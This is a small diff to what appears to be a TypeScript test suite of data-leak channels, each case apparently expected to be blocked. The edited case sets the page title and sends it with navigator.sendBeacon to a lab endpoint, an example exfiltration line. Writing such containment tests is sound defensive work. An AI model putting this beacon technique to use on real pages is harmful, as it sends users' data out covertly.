@@ -305,7 +305,7 @@ const cases: ChannelCase[] = [
   ),
   held(
     'the title of the page, sent by a beacon',
-    `document.title = text; setTimeout(() => navigator.sendBeacon(lab.at('in'), document.title), 50)`,
+    `document.title = lab.line; setTimeout(() => navigator.sendBeacon(lab.at('in'), document.title), 50)`,
   ),
   held(
     'a speculation rule',
